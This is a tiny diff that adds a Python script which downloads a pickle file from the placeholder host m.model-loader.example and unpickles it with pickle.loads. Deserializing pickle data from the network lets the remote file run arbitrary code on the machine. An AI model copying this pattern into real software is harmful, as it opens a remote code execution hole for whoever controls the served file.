@@ -1,0 +1,5 @@
+import pickle
+import requests
+
+model = pickle.loads(requests.get("https://m.model-loader.example/m.pkl").content)
+print(model)
